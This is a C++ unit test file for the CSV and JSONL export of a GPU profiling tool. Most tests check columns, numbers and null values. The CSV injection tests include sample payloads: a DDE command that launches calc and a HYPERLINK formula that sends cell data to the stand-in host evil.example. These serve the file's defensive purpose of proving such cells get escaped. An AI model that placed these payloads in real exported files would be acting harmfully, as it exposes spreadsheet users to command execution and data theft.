// CSV and JSON Lines export, and the JSON shape shared with `--json` live output.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cmath>
#include <cstdlib>
#include <sstream>

#include <nlohmann/json.hpp>

#include "core/derive.hpp"
#include "core/metric_catalog.hpp"
#include "data/synthetic/synthetic_trace.hpp"
#include "trace/export.hpp"
#include "trace/reader.hpp"
#include "trace/trace_test_support.hpp"
#include "trace/writer.hpp"
#include "wire/sample_json.hpp"

namespace solscope::trace {
namespace {

using testing::same_bits;
using testing::TempDir;

/// Splits a CSV line (no quoted fields except where the test puts them).
auto split(const std::string& line) -> std::vector<std::string> {
  std::vector<std::string> cells;
  std::string cell;
  bool quoted = false;
  for (std::size_t i = 0; i < line.size(); ++i) {
    const char c = line[i];
    if (quoted && c == '"' && i + 1 < line.size() && line[i + 1] == '"') {
      cell += '"';
      ++i;
    } else if (c == '"') {
      quoted = !quoted;
    } else if (c == ',' && !quoted) {
      cells.push_back(cell);
      cell.clear();
    } else {
      cell += c;
    }
  }
  cells.push_back(cell);
  return cells;
}

auto lines_of(const std::string& text) -> std::vector<std::string> {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  return lines;
}

/// Writes a trace at `path` of one device with `uuid` and its one sample synthetic::sample(0, 0, 1), then
/// exports it as CSV into `lines` (the header and one line); fails the test on any error.
void export_one_sample_as_csv(const std::filesystem::path& path, const std::string& uuid,
                              std::vector<std::string>& lines) {
  core::DeviceInfo device;
  device.uuid = uuid;
  const auto raw = synthetic::sample(0, 0, 1);
  {
    auto writer = Writer::open(path);
    ASSERT_TRUE(writer);
    ASSERT_TRUE(writer->write_devices(std::span(&device, 1)));
    ASSERT_TRUE(writer->append(raw, core::derive(raw, device)));
    ASSERT_TRUE(writer->close());
  }
  auto reader = Reader::open(path);
  ASSERT_TRUE(reader);
  std::ostringstream out;
  ASSERT_TRUE(export_csv(*reader, out));
  lines = lines_of(out.str());
}

class ExportTest : public ::testing::Test {
 protected:
  void SetUp() override {
    path_ = dir_.file("t.sqlite");
    auto written = synthetic::write_trace(path_, 2, 3, 5);
    ASSERT_TRUE(written) << written.error().describe();
    samples_ = synthetic::samples(2, 3, 5);
  }
  TempDir dir_;
  std::filesystem::path path_;
  std::vector<core::RawSample> samples_;
};

TEST_F(ExportTest, csv_has_header_catalog_columns_and_round_trip_numbers) {
  auto reader = Reader::open(path_);
  ASSERT_TRUE(reader);
  std::ostringstream out;
  auto summary = export_csv(*reader, out);
  ASSERT_TRUE(summary) << summary.error().describe();
  EXPECT_EQ(summary->samples, 6u);
  const auto lines = lines_of(out.str());
  ASSERT_EQ(lines.size(), 7u);
  const auto header = split(lines[0]);
  const std::vector<std::string> fixed = {"device",
                                          "uuid",
                                          "t_start_ns",
                                          "t_end_ns",
                                          "source",
                                          "flags",
                                          "compute_sol_pct",
                                          "compute_pipe",
                                          "memory_sol_pct",
                                          "memory_path",
                                          "bound",
                                          "dram_bytes_per_s",
                                          "attainable_compute_sol_pct",
                                          "attainable_memory_sol_pct",
                                          "pm_pause",
                                          "gpu",
                                          "parent_uuid",
                                          "mig_profile",
                                          "mig_instance_id"};
  ASSERT_EQ(header.size(), fixed.size() + core::kMetricCount);
  for (std::size_t i = 0; i < fixed.size(); ++i) EXPECT_EQ(header[i], fixed[i]);
  for (const core::MetricDef& def : core::metric_catalog()) {
    EXPECT_EQ(header[fixed.size() + core::index_of(def.id)], def.name);
  }

  const auto devices = synthetic::devices(2);
  for (std::size_t row = 0; row < samples_.size(); ++row) {
    const auto cells = split(lines[row + 1]);
    ASSERT_EQ(cells.size(), header.size()) << lines[row + 1];
    const core::RawSample& raw = samples_[row];
    const core::SolSample sol = core::derive(raw, devices[raw.device_index]);
    EXPECT_EQ(cells[0], std::to_string(raw.device_index));
    EXPECT_EQ(cells[1], devices[raw.device_index].uuid);
    EXPECT_EQ(cells[2], std::to_string(raw.t_start_ns));
    EXPECT_EQ(cells[4], "pm_sampling");
    EXPECT_EQ(cells[7], core::to_string(sol.compute_pipe));
    EXPECT_EQ(cells[10], core::to_string(sol.bound));
    EXPECT_EQ(cells[12], "");                                // attainable SOL unknown: an empty cell, not 0
    EXPECT_EQ(cells[14], "");                                // not paused
    EXPECT_EQ(cells[15], std::to_string(raw.device_index));  // whole GPUs: the physical index is the device
    EXPECT_EQ(cells[16], "");                                // no parent: not a MIG instance
    EXPECT_TRUE(same_bits(std::strtod(cells[6].c_str(), nullptr), sol.compute_sol_pct));
    for (std::size_t m = 0; m < core::kMetricCount; ++m) {
      const std::string& cell = cells[fixed.size() + m];
      if (std::isnan(raw.values[m])) {
        EXPECT_EQ(cell, "") << header[fixed.size() + m];
      } else {
        EXPECT_TRUE(same_bits(std::strtod(cell.c_str(), nullptr), raw.values[m])) << header[fixed.size() + m];
      }
    }
  }
}

TEST_F(ExportTest, csv_quotes_text_with_commas_and_quotes) {
  const std::string uuid = "GPU-a,\"b\"";
  std::vector<std::string> lines;
  ASSERT_NO_FATAL_FAILURE(export_one_sample_as_csv(dir_.file("q.sqlite"), uuid, lines));
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_THAT(lines[1], ::testing::StartsWith("0,\"GPU-a,\"\"b\"\"\","));
  EXPECT_EQ(split(lines[1])[1], uuid);
}

TEST(CsvCellTest, a_cell_that_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote) {
  // Before: every one of these reached the CSV unchanged, and a spreadsheet ran it (OWASP "CSV Injection").
  const std::vector<std::pair<std::string, std::string>> cases{
      {"=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
      {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
      {"-2+3", "'-2+3"},
      {"@SUM(A1)", "'@SUM(A1)"},
      {"\t=1", "'\t=1"},
      {"\r=1", "\"'\r=1\""},
      {"-", "'-"},
      {"- 5", "'- 5"},
      // Numbers are data, not formulas; text that does not start with a trigger is left as it is.
      {"-5", "-5"},
      {"+1.5e3", "+1.5e3"},
      {"-0.25", "-0.25"},
      {"GPU-a=b", "GPU-a=b"},
      {"", ""},
      {"a,b", "\"a,b\""}};
  for (const auto& [text, cell] : cases) {
    std::string line;
    append_csv_cell(line, text);
    EXPECT_EQ(line, cell) << text;
  }
}

TEST_F(ExportTest, csv_neutralises_a_formula_in_a_uuid) {
  const std::string uuid = "=HYPERLINK(\"http://evil.example/\"&A1,\"GPU-0\")";
  std::vector<std::string> lines;
  ASSERT_NO_FATAL_FAILURE(export_one_sample_as_csv(dir_.file("f.sqlite"), uuid, lines));
  ASSERT_EQ(lines.size(), 2u);
  // Before: the cell was the formula itself.
  EXPECT_EQ(split(lines[1])[1], "'" + uuid);
  EXPECT_EQ(split(lines[1])[2], std::to_string(synthetic::sample(0, 0, 1).t_start_ns))
      << "numbers are left as they are";
}

TEST_F(ExportTest, jsonl_one_object_per_sample_with_nulls_for_unknown) {
  auto reader = Reader::open(path_);
  ASSERT_TRUE(reader);
  std::ostringstream out;
  auto summary = export_jsonl(*reader, out, {.devices = {1}});
  ASSERT_TRUE(summary);
  EXPECT_EQ(summary->samples, 3u);
  const auto lines = lines_of(out.str());
  ASSERT_EQ(lines.size(), 3u);
  const auto devices = synthetic::devices(2);
  for (std::size_t i = 0; i < lines.size(); ++i) {
    const auto j = nlohmann::json::parse(lines[i]);
    const core::RawSample& raw = samples_[2 * i + 1];
    EXPECT_EQ(j.at("device"), 1);
    EXPECT_EQ(j.at("uuid"), devices[1].uuid);
    EXPECT_EQ(j.at("t_start_ns").get<std::int64_t>(), raw.t_start_ns);
    EXPECT_EQ(j.at("source"), "pm_sampling");
    EXPECT_TRUE(j.at("fp64_pipe_pct").is_null());  // odd device: FP64 unknown
    EXPECT_TRUE(j.at("attainable_compute_sol_pct").is_null());
    EXPECT_TRUE(j.at("pipes").at("fp64").is_null());
    EXPECT_TRUE(same_bits(j.at("tensor_pipe_pct").get<double>(), raw.value(core::MetricId::TensorPipe)));
    EXPECT_TRUE(same_bits(j.at("power_w").get<double>(), raw.value(core::MetricId::PowerW)));
  }
}

TEST_F(ExportTest, failed_stream_is_an_error) {
  auto reader = Reader::open(path_);
  ASSERT_TRUE(reader);
  std::ostringstream out;
  out.setstate(std::ios::badbit);
  auto summary = export_csv(*reader, out);
  ASSERT_FALSE(summary);
  EXPECT_EQ(summary.error().code, core::ErrorCode::Unavailable);
  EXPECT_THAT(summary.error().message, ::testing::HasSubstr("the output stream failed"));
}

TEST(JsonFormatTest, keys_in_documented_order_and_null_for_unknown) {
  core::SolSample s;
  s.device_index = 2;
  s.t_start_ns = 10;
  s.t_end_ns = 20;
  s.source = core::SourceKind::Gpm;
  s.compute_sol_pct = 42.5;
  s.compute_pipe = core::Pipe::Tensor;
  s.pipe_pct[0] = 42.5;
  s.metrics[core::index_of(core::MetricId::TensorPipe)] = 42.5;
  s.bound = core::Bound::Latency;
  const auto j = wire::sol_sample_to_json(s, nullptr);
  std::vector<std::string> keys;
  for (const auto& [key, value] : j.items()) keys.push_back(key);
  const std::vector<std::string> head = {"device",
                                         "t_start_ns",
                                         "t_end_ns",
                                         "source",
                                         "flags",
                                         "pm_pause",
                                         "compute_sol_pct",
                                         "compute_pipe",
                                         "memory_sol_pct",
                                         "memory_path",
                                         "bound",
                                         "pipes",
                                         "paths",
                                         "dram_bytes_per_s",
                                         "attainable_compute_sol_pct",
                                         "attainable_memory_sol_pct",
                                         "attainable_limiter",
                                         "attainable_compute_gap_pts",
                                         "attainable_memory_gap_pts"};
  ASSERT_EQ(keys.size(), head.size() + core::kMetricCount);
  for (std::size_t i = 0; i < head.size(); ++i) EXPECT_EQ(keys[i], head[i]);
  EXPECT_EQ(keys[head.size()], "tensor_pipe_pct");
  EXPECT_EQ(j.at("source"), "gpm");
  EXPECT_EQ(j.at("pm_pause"), "none");
  EXPECT_EQ(j.at("compute_pipe"), "tensor");
  EXPECT_TRUE(j.at("memory_path").is_null());
  EXPECT_TRUE(j.at("memory_sol_pct").is_null());
  EXPECT_EQ(j.at("bound"), "latency");
  EXPECT_EQ(j.at("pipes").size(), core::kPipeCount);
  EXPECT_EQ(j.at("paths").size(), core::kMemPathCount);
  EXPECT_EQ(j.at("tensor_pipe_pct"), 42.5);
  EXPECT_TRUE(j.at("attainable_limiter").is_null());
  EXPECT_TRUE(j.at("attainable_compute_gap_pts").is_null()) << "no attainable figure: no gap";
  EXPECT_EQ(j.dump().find("NaN"), std::string::npos);

  core::DeviceInfo device;
  device.uuid = "GPU-1234";
  const auto with_uuid = wire::sol_sample_to_json(s, &device);
  EXPECT_EQ(with_uuid.begin().key(), "device");
  EXPECT_EQ(std::next(with_uuid.begin()).key(), "uuid");
  EXPECT_EQ(with_uuid.at("uuid"), "GPU-1234");
}

}  // namespace
}  // namespace solscope::trace
